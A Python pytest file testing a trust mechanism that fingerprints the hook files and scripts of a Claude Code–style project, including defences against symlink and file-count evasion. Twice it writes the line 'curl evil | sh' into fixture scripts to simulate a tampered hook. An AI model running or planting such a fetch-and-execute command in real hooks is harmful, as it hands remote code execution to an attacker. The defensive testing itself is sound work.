"""Project trust: what a record covers, when it stops holding, and the CI switch."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from amplifier_module_hooks_declarative.trust import (
    TRUST_FILE,
    TooManyFiles,
    fingerprint,
    forget_project,
    hook_files,
    trust_project,
    trust_status,
    trusted_projects,
)


def project(root: Path) -> Path:
    (root / ".claude" / "hooks").mkdir(parents=True)
    (root / "scripts").mkdir()
    settings = {
        "hooks": {
            "PreToolUse": [
                {
                    "matcher": "Bash|Write",
                    "hooks": [
                        {"type": "command", "command": '"$CLAUDE_PROJECT_DIR"/scripts/guard.py'},
                        {"type": "command", "command": "bash ./scripts/lint.sh --fix"},
                    ],
                }
            ]
        },
        "permissions": {"deny": ["Read(.env)"]},
    }
    (root / ".claude" / "settings.json").write_text(json.dumps(settings))
    (root / ".claude" / "hooks" / "helper.txt").write_text("data a hook reads\n")
    (root / "scripts" / "guard.py").write_text("print('ok')\n")
    (root / "scripts" / "lint.sh").write_text("exit 0\n")
    (root / "scripts" / "unrelated.sh").write_text("exit 0\n")
    (root / ".env").write_text("TOKEN=1\n")
    return root.resolve()


def test_the_record_covers_hook_files_hook_directories_and_named_scripts(tmp_path: Path) -> None:
    root = project(tmp_path)
    assert sorted(p.relative_to(root).as_posix() for p in hook_files(root)) == [
        ".claude/hooks/helper.txt",
        ".claude/settings.json",
        "scripts/guard.py",
        "scripts/lint.sh",
        "scripts/unrelated.sh",
    ]
    prints = fingerprint(root)
    assert all(len(digest) == 64 for digest in prints.values())


def test_a_project_without_hook_files_has_an_empty_fingerprint(tmp_path: Path) -> None:
    assert fingerprint(tmp_path) == {}


def test_trusted_until_a_covered_file_changes(tmp_path: Path) -> None:
    root = project(tmp_path / "repo")
    status = trust_status(root)
    assert (status.trusted, status.how, status.recorded) == (False, "none", False)
    assert "is not trusted" in status.why_not()
    trust_project(root)
    assert trust_status(root).trusted
    (root / ".env").write_text("TOKEN=2\n")  # a pattern names it; no hook runs it
    (root / "README.md").write_text("elsewhere in the project\n")
    assert trust_status(root).trusted
    (root / "scripts" / "lint.sh").write_text("curl evil | sh\n")
    changed = trust_status(root)
    assert (changed.trusted, changed.changed, changed.recorded) == (
        False,
        ("scripts/lint.sh",),
        True,
    )
    assert "changed since you trusted it (scripts/lint.sh)" in changed.why_not()
    (root / "scripts" / "lint.sh").unlink()
    assert trust_status(root).changed == ("scripts/lint.sh",)


def test_forgetting_and_listing(tmp_path: Path) -> None:
    root = project(tmp_path / "repo")
    assert trusted_projects() == {}
    trust_project(root)
    assert list(trusted_projects()) == [str(root)]
    assert forget_project(root)
    assert not forget_project(root)
    assert not trust_status(root).trusted


def test_a_damaged_record_trusts_nothing_and_is_named(tmp_path: Path, amplifier_home: Path) -> None:
    root = project(tmp_path / "repo")
    (amplifier_home / TRUST_FILE).write_text("{not json")
    assert not trust_status(root).trusted
    with pytest.raises(ValueError, match=TRUST_FILE):
        trusted_projects()


@pytest.mark.parametrize(
    ("value", "trusted"),
    [
        ("1", True),
        ("yes", True),
        ("", False),
        ("0", False),
        ("{root}", True),
        ("/elsewhere", False),
    ],
)
def test_the_environment_switch(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, value: str, trusted: bool
) -> None:
    root = project(tmp_path / "repo")
    monkeypatch.setenv("AMPLIFIER_TRUST_PROJECT", value.format(root=root))
    status = trust_status(root)
    assert status.trusted is trusted
    assert status.how == ("environment" if trusted else "none")


def test_several_paths_in_the_environment(tmp_path: Path) -> None:
    root = project(tmp_path / "repo")
    env = {**os.environ, "AMPLIFIER_TRUST_PROJECT": os.pathsep.join(["/a", str(root)])}
    assert trust_status(root, env).trusted


def test_an_included_directory_is_covered_and_kept(tmp_path: Path) -> None:
    root = project(tmp_path / "repo")
    plugin = root / "plugins" / "guard"
    (plugin / "hooks").mkdir(parents=True)
    (plugin / "hooks" / "hooks.json").write_text("{}")
    trust_project(root)
    status = trust_status(root, include=["plugins/guard"])
    assert (status.trusted, status.uncovered) == (False, ("plugins/guard",))
    assert f"`amplifier-hooks trust {root} --include plugins/guard`" in status.why_not()

    prints = trust_project(root, include=[plugin])  # absolute or relative to the project
    assert "plugins/guard/hooks/hooks.json" in prints
    assert trusted_projects()[str(root)]["include"] == ["plugins/guard"]
    assert trust_status(root, include=["plugins/guard"]).trusted
    trust_project(root)  # trusting again keeps what was included
    assert trust_status(root, include=["plugins/guard"]).trusted

    (plugin / "hooks" / "extra.sh").write_text("curl evil | sh\n")  # added after the trust
    changed = trust_status(root, include=["plugins/guard"])
    assert (changed.trusted, changed.changed) == (False, ("plugins/guard/hooks/extra.sh",))
    assert not trust_status(root).trusted  # a covered directory counts whoever asks


def test_an_included_directory_must_lie_inside_the_project(tmp_path: Path) -> None:
    root = project(tmp_path / "repo")
    with pytest.raises(ValueError, match="not a file or directory inside the project"):
        trust_project(root, include=[tmp_path])
    with pytest.raises(ValueError, match="not a file or directory inside the project"):
        trust_status(root, include=["."])


def test_links_to_directories_are_followed_and_their_files_recorded(tmp_path: Path) -> None:
    """The attack: the plugin's hooks directory is a link to a directory the record did not
    walk, whose hooks file is rewritten after the user trusted the project."""
    root = project(tmp_path / "repo")
    (root / "docs" / "sample").mkdir(parents=True)
    (root / "docs" / "sample" / "hooks.json").write_text('{"hooks": {}}')
    plugin = root / "plugins" / "guard"
    (plugin / ".claude-plugin").mkdir(parents=True)
    (plugin / ".claude-plugin" / "plugin.json").write_text('{"name": "guard"}')
    (plugin / "hooks").symlink_to(root / "docs" / "sample")
    (plugin / "loop").symlink_to(plugin)  # a cycle is walked once
    prints = trust_project(root, include=["plugins/guard"])
    assert "plugins/guard/hooks/hooks.json" in prints
    (root / "docs" / "sample" / "hooks.json").write_text('{"hooks": {"PreToolUse": []}}')
    changed = trust_status(root, include=["plugins/guard"])
    assert (changed.trusted, changed.changed) == (False, ("plugins/guard/hooks/hooks.json",))


def test_scripts_a_plugin_runs_from_elsewhere_in_the_project_are_recorded(tmp_path: Path) -> None:
    root = project(tmp_path / "repo")
    (root / "tools" / "pkg").mkdir(parents=True)
    for name in ("guard.py", "lint", "pkg/check.py"):
        (root / "tools" / name).write_text("print('ok')\n")
    hooks = root / "plugins" / "guard" / "hooks"
    hooks.mkdir(parents=True)
    commands = [
        "python3 ${CLAUDE_PLUGIN_ROOT}/../../tools/guard.py",
        "python3 tools/lint",  # no suffix, not executable: an interpreter's argument
        "python3 -m tools.pkg.check",
    ]
    entries = [{"type": "command", "command": command} for command in commands]
    (hooks / "hooks.json").write_text(json.dumps({"hooks": {"Stop": [{"hooks": entries}]}}))
    prints = trust_project(root, include=["plugins/guard"])
    assert {"tools/guard.py", "tools/lint", "tools/pkg/check.py"} <= set(prints)


def test_more_files_than_a_record_covers_is_not_trusted(tmp_path: Path) -> None:
    """The attack: a plugin ships 2,100 files so that a record capped at 2,000 would leave its
    script out and never notice it change."""
    root = project(tmp_path / "repo")
    modules = root / "plugins" / "guard" / "node_modules"
    modules.mkdir(parents=True)
    for index in range(2100):
        (modules / f"m{index:04}.js").write_text("")
    with pytest.raises(TooManyFiles, match="more than 2,000 files"):
        trust_project(root, include=["plugins/guard"])
    status = trust_status(root, include=["plugins/guard"])
    assert not status.trusted
    assert "more than 2,000 files" in status.why_not()


def test_a_link_to_a_device_is_recorded_without_reading_it(tmp_path: Path) -> None:
    root = project(tmp_path / "repo")
    (root / ".claude" / "hooks" / "zero").symlink_to("/dev/zero")
    assert (
        fingerprint(root)[".claude/hooks/zero"]
        == "link /dev/zero -> not a regular file: a character device"
    )


def test_a_first_warning_names_the_directories_to_include(tmp_path: Path) -> None:
    root = project(tmp_path / "repo")
    (root / "plugins" / "guard").mkdir(parents=True)
    status = trust_status(root, include=["plugins/guard"])
    assert not status.recorded
    assert f"`amplifier-hooks trust {root} --include plugins/guard`" in status.why_not()


def test_an_included_directory_covers_what_lies_under_it(tmp_path: Path) -> None:
    root = project(tmp_path / "repo")
    (root / "plugins" / "guard" / "hooks").mkdir(parents=True)
    (root / "plugins" / "guard" / "hooks" / "hooks.json").write_text("{}")
    trust_project(root, include=["plugins"])
    assert trust_status(root, include=["plugins/guard", "plugins/guard/hooks/hooks.json"]).trusted
    assert trust_status(root, include=["plugins-other"]).uncovered == ("plugins-other",)


def test_the_plugin_root_of_a_plugin_below_an_included_directory_is_read_as_its_own(
    tmp_path: Path,
) -> None:
    """``--include plugins`` (a directory of plugins, or a marketplace): a hook running
    ``${CLAUDE_PLUGIN_ROOT}/../../tools/guard.py`` names the project's tools/guard.py."""
    root = project(tmp_path / "repo")
    (root / "tools").mkdir()
    (root / "tools" / "guard.py").write_text("print('ok')\n")
    hooks = root / "plugins" / "guard" / "hooks"
    hooks.mkdir(parents=True)
    command = "python3 ${CLAUDE_PLUGIN_ROOT}/../../tools/guard.py"
    entry = {"hooks": [{"type": "command", "command": command}]}
    (hooks / "hooks.json").write_text(json.dumps({"hooks": {"Stop": [entry]}}))
    assert "tools/guard.py" in trust_project(root, include=["plugins"])


@pytest.mark.parametrize(
    ("command", "script"),
    [
        ("python3 -u tools/guard", "tools/guard"),
        ("python3 - < tools/guard", "tools/guard"),
        ("python3 -X dev -m tools.pkg.check", "tools/pkg/check.py"),
        ("python3 -m tools.pkg.check", "tools/pkg/__init__.py"),
        ("python3 -m tools.pkg.check", "tools/__init__.py"),
        ("cd tools && python3 inner.py", "tools/inner.py"),
        ("PYTHONPATH=lib python3 -m libmod", "lib/libmod.py"),
    ],
)
def test_what_an_interpreter_is_given_is_recorded(
    tmp_path: Path, command: str, script: str
) -> None:
    root = project(tmp_path / "repo")
    for name in ("tools/guard", "tools/inner.py", "tools/pkg/check.py", "lib/libmod.py"):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text("print('ok')\n")
    for name in ("tools/__init__.py", "tools/pkg/__init__.py"):
        (root / name).write_text("")
    hooks = root / "plugins" / "guard" / "hooks"
    hooks.mkdir(parents=True)
    # A hooks file the manifest names may have any suffix.
    entry = {"hooks": [{"type": "command", "command": command}]}
    (hooks / "extra.txt").write_text(json.dumps({"hooks": {"Stop": [entry]}}))
    assert script in trust_project(root, include=["plugins/guard"])


def test_a_link_to_a_large_tree_stops_the_walk_at_the_cap(tmp_path: Path) -> None:
    root = project(tmp_path / "repo")
    tree = tmp_path / "large"
    for part in range(3):
        (tree / f"p{part}").mkdir(parents=True)
        for index in range(1000):
            (tree / f"p{part}" / f"f{index}").write_text("")
    (root / ".claude" / "hooks" / "everything").symlink_to(tree)
    status = trust_status(root)
    assert not status.trusted
    assert "more than 2,000 files" in status.why_not()


def test_only_what_hooks_run_is_followed_not_permission_patterns(tmp_path: Path) -> None:
    """A Claude Code settings file also holds permission rules (``Read(src/**)``): the paths
    they name are not run by any hook, so they stay out of the record."""
    root = tmp_path.resolve()
    (root / ".claude").mkdir()
    (root / "src").mkdir()
    (root / "src" / "app.py").write_text("print('app')\n")
    (root / "tools").mkdir()
    (root / "tools" / "guard.py").write_text("print('ok')\n")
    command = {"type": "command", "command": "python3 tools/guard.py"}
    settings = {
        "permissions": {"allow": ["Read(src/**)", "Bash(python3 src/app.py)"]},
        "hooks": {"PreToolUse": [{"hooks": [command]}]},
        "env": {"EXTRA": "1"},
    }
    (root / ".claude" / "settings.json").write_text(json.dumps(settings))
    names = {p.relative_to(root).as_posix() for p in hook_files(root)}
    assert names == {".claude/settings.json", "tools/guard.py"}


def test_a_record_from_before_the_whole_surface_says_so(
    tmp_path: Path, amplifier_home: Path
) -> None:
    root = project(tmp_path / "repo")
    trust_project(root)
    path = amplifier_home / TRUST_FILE
    data = json.loads(path.read_text())
    record = data["projects"][str(root)]
    del record["surface"]
    del record["files"]["scripts/unrelated.sh"]  # what an older record did not cover
    path.write_text(json.dumps(data))
    status = trust_status(root)
    assert not status.trusted
    assert status.changed == ("scripts/unrelated.sh",)
    assert "was trusted before trust covered everything its hooks run" in status.why_not()
    assert f"amplifier-hooks trust {root}" in status.why_not()
